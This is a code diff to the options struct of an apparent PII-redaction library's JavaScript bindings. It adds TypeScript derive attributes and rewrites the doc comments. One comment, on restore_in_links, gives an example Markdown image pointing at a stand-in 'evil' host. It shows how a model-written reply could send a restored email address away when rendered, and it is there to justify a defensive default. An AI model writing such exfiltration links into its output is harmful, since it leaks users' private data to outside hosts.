@@ -9,20 +9,25 @@ use tandem_core::{Action, EntityKind};
 
 /// Options of `new Shield(options)`, as JavaScript passes them.
 #[derive(Debug, Default, Deserialize)]
+#[cfg_attr(feature = "ts", derive(ts_rs::TS), ts(optional_fields))]
 #[serde(rename_all = "camelCase", deny_unknown_fields)]
 pub struct ShieldOptions {
-    /// See `ShieldConfig::min_score`.
+    /// Entities scoring below this are ignored (default 0.5).
     pub min_score: Option<f32>,
-    /// See `ShieldConfig::max_input_bytes`.
+    /// Longer inputs are refused with an error (default 32 MiB of UTF-8).
     pub max_input_bytes: Option<usize>,
-    /// Action per entity kind name.
+    /// Action per entity kind; kinds not listed are redacted.
     #[serde(default)]
+    #[cfg_attr(feature = "ts", ts(optional = nullable, type = "Partial<Record<EntityKind, Action>>"))]
     pub policy: BTreeMap<String, Action>,
-    /// See `RestorePolicy::in_links`.
+    /// Restore originals inside URLs and Markdown link destinations in replies (default false:
+    /// a model-written `![](https://evil/?q=[EMAIL_1])` would send the original away on render).
     #[serde(default)]
+    #[cfg_attr(feature = "ts", ts(optional = nullable))]
     pub restore_in_links: bool,
-    /// See `RestorePolicy::in_markup`.
+    /// Restore originals inside HTML tags in replies (default false).
     #[serde(default)]
+    #[cfg_attr(feature = "ts", ts(optional = nullable))]
     pub restore_in_markup: bool,
 }
 
